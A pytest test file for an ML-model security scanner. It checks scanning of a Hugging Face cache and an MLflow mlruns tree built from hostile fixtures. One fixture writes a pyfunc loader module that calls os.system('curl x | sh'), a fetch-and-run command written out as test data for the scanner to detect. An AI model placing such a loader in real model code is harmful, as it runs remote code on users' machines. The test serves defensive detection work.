"""Scanning what tools leave on disk: a Hugging Face cache and an MLflow ``mlruns/`` tree.

The Hugging Face cache is built by the real ``huggingface_hub`` (``snapshot_download`` from the
local hub): snapshot files are links into ``blobs/`` named by hash, and the engine follows
links to files (never links to folders). The MLflow tree is laid out as MLflow's file store
writes it (MLflow is too heavy to install for the tests; the model folders come from the
MLflow tests, written as ``mlflow.sklearn.save_model`` and ``mlflow.pyfunc.save_model`` do).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from modelshield.core.policy import ExitCode, Policy
from modelshield.scanner.engine import scan_paths
from tests.scanner.remote.conftest import HOSTILE
from tests.scanner.remote.hub_server import HubServer
from tests.scanner.repos.conftest import of, result
from tests.scanner.repos.test_mlflow import pyfunc_model, sklearn_model

huggingface_hub = pytest.importorskip("huggingface_hub")


@pytest.fixture(scope="module")
def hf_cache(hub: HubServer, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A cache with the whole hostile repository in it, as ``snapshot_download`` leaves it."""
    cache = tmp_path_factory.mktemp("hf-cache")
    huggingface_hub.snapshot_download("acme/hostile", cache_dir=cache, endpoint=hub.url)
    return cache


def test_the_cache_is_laid_out_as_links_into_blobs(hf_cache: Path, hub: HubServer) -> None:
    """What the next tests rely on, checked on the cache the library really wrote."""
    main = hub.repos["acme/hostile"].refs["main"]
    snapshot = hf_cache / "models--acme--hostile" / "snapshots" / main
    files = [p for p in snapshot.rglob("*") if not p.is_dir()]
    assert {p.relative_to(snapshot).as_posix() for p in files} == set(HOSTILE)
    assert all(p.is_symlink() for p in files)
    assert all(p.resolve().parent.name == "blobs" for p in files)


def test_a_snapshot_folder_scans_as_the_repository(hf_cache: Path, hub: HubServer) -> None:
    main = hub.repos["acme/hostile"].refs["main"]
    snapshot = hf_cache / "models--acme--hostile" / "snapshots" / main
    report = scan_paths([snapshot])
    assert len(report.results) == len(HOSTILE)  # every link followed to its blob
    assert of(result(report, "pytorch_model.bin"), "PICKLE-CALL-DANGEROUS")
    assert of(result(report, "modeling_acme.py"), "REPO-REMOTE-CODE")
    [repository] = report.repositories
    assert repository.layouts == ("huggingface",)


def test_the_whole_cache_can_be_scanned(hf_cache: Path) -> None:
    """The cache root: every blob is scanned twice (by hash name, and through its snapshot
    link), the snapshots with their names; a finding is never missed."""
    report = scan_paths([hf_cache])
    dangerous = [
        r.path
        for r in report.results
        if any(f.rule_id == "PICKLE-CALL-DANGEROUS" for f in r.findings)
    ]
    assert any("/blobs/" in p for p in dangerous) and any("/snapshots/" in p for p in dangerous)
    assert of(result(report, "modeling_acme.py"), "REPO-REMOTE-CODE")
    assert all(not r.errors for r in report.results), [r.errors for r in report.results]


def test_a_link_to_a_folder_is_not_followed(hf_cache: Path, tmp_path: Path) -> None:
    (tmp_path / "loop").symlink_to(tmp_path)
    (tmp_path / "cache").symlink_to(hf_cache, target_is_directory=True)
    (tmp_path / "model.json").write_text("{}")
    report = scan_paths([tmp_path])
    assert [Path(r.path).name for r in report.results] == ["model.json"]


# ---- MLflow -------------------------------------------------------------------------------

EXPERIMENT_META = """artifact_location: file://{root}/mlruns/1
creation_time: 1722513600000
experiment_id: '1'
last_update_time: 1722513600000
lifecycle_stage: active
name: churn
"""
RUN_META = """artifact_uri: file://{root}/mlruns/1/{run}/artifacts
end_time: 1722513660000
entry_point_name: ''
experiment_id: '1'
lifecycle_stage: active
run_id: {run}
run_name: {name}
run_uuid: {run}
source_name: ''
source_type: 4
source_version: ''
start_time: 1722513600000
status: 3
tags: []
user_id: ci
"""


def mlruns(root: Path, hostile: bool) -> Path:
    """An ``mlruns/`` file store with one experiment: a scikit-learn run, and optionally a
    run whose pyfunc model's loader module starts a shell."""
    store = root / "mlruns"
    (store / "1").mkdir(parents=True)
    (store / "1" / "meta.yaml").write_text(EXPERIMENT_META.format(root=root))
    runs = {"4f1c2d3e5a6b7c8d9e0f1a2b3c4d5e6f": "sklearn"}
    if hostile:
        runs["0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d"] = "pyfunc"
    for run, name in runs.items():
        folder = store / "1" / run
        for sub in ("metrics", "params", "tags"):
            (folder / sub).mkdir(parents=True)
        (folder / "meta.yaml").write_text(RUN_META.format(root=root, run=run, name=name))
        (folder / "metrics" / "accuracy").write_text("1722513650000 0.93 0\n")
        (folder / "params" / "C").write_text("1.0")
        (folder / "tags" / "mlflow.runName").write_text(name)
        model = folder / "artifacts" / "model"
        if name == "sklearn":
            sklearn_model(model)
        else:
            loader = "import os\n\ndef _load_pyfunc(path):\n    os.system('curl x | sh')\n"
            pyfunc_model(model, loader="my_loader", **{"code/my_loader.py": loader})
    return store


def test_a_clean_mlruns_tree_passes(tmp_path: Path) -> None:
    """Run metadata, metrics and parameters are no false alarm; the model is checked."""
    report = scan_paths([mlruns(tmp_path, hostile=False)])
    assert report.findings == ()
    policy = Policy()
    assert policy.exit_code(policy.apply(report)) is ExitCode.OK
    [repository] = report.repositories
    assert "mlflow" in repository.layouts
    assert any(f.path.endswith("model.pkl") and f.role == "executable" for f in repository.files)


def test_a_hostile_run_in_an_mlruns_tree_is_found(tmp_path: Path) -> None:
    report = scan_paths([mlruns(tmp_path, hostile=True)])
    [found] = of(result(report, "my_loader.py"), "MLFLOW-LOADER-CODE")
    assert found.evidence["key"] == "flavors.python_function.loader_module"
